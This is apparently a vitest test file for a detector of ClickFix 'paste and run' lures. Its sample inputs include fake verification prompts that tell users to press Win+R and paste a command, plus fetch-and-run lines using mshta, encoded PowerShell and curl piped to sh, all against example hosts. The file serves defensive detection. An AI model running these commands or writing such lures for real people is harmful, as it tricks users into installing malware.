import { describe, expect, it } from "vitest";
import { defaultBudget, resolveLimits } from "../../limits";
import { findPasteAndRun } from "./lure-paste-and-run";

const find = (text: string) => findPasteAndRun(text, defaultBudget());

describe("findPasteAndRun (ClickFix)", () => {
  it("reads the keystrokes as lures write them, framed as a verification", () => {
    expect(
      find("I'm not a robot. Verification steps: 1. Press ⊞ Win + R 2. Press CTRL+V 3. Press Enter"),
    ).toMatchObject({ how: "paste" });
    expect(
      find("Bitte bestätigen: Verify you are human. Windows-Taste + R drücken, dann Strg + V und Enter."),
    ).toMatchObject({ how: "paste" });
    expect(find("CAPTCHA verification: press Windows key and R, then Control V")).toMatchObject({
      how: "paste",
      instruction: "windows key and r",
    });
  });

  it("wants the pretext for a paste, and a download or a hidden window for a command", () => {
    expect(find("Press Win+R, paste the address with Ctrl+V and press Enter to open the shared folder.")).toBeNull();
    expect(find("To verify the installation, press Win+R, paste the command with Ctrl+V and press Enter.")).toBeNull();
    expect(find("Open PowerShell and run: iwr -useb https://get.example.dev/install.ps1 | iex")).toBeNull();
    expect(find("Press Win+R and type cmd /c ipconfig /all to see your address.")).toBeNull();
    expect(find("Press Win+R and run: mshta https://cdn-7731.example/check.hta")).toMatchObject({
      how: "command",
      command: expect.stringMatching(/^mshta https:/),
    });
    expect(
      find("To open the document press Win+X, I and run powershell -enc SQBFAFgAIAAoAGkAdwByACAAaAB0AHQAcAA="),
    ).toMatchObject({ how: "command" });
    expect(find("Verification required: press Win+R and enter: curl -s https://a.example/x.sh | sh")).toMatchObject({
      how: "command",
      command: expect.stringMatching(/^curl /),
    });
  });

  it("takes `cmd` for the command host only as cmd /c or /k: Cmd+V is the macOS paste", () => {
    expect(find("Press Win+R then Cmd + V, visit https://a.example for help")).toBeNull();
    expect(find("Verify you are human: press Win+R and run cmd /c start https://a.example/x")).toMatchObject({
      how: "command",
      command: expect.stringMatching(/^cmd \/c start/),
    });
  });

  it("reads LURE_TEXT_SCAN_CHARS of the text and records the window when it cut", () => {
    const budget = { limits: resolveLimits({ LURE_TEXT_SCAN_CHARS: 20 }), budgetHits: new Set<never>() };
    expect(findPasteAndRun(`${"x".repeat(40)} verify you are human: Win+R, Ctrl+V`, budget)).toBeNull();
    expect([...budget.budgetHits]).toEqual(["LURE_TEXT_SCAN_CHARS"]);
  });
});
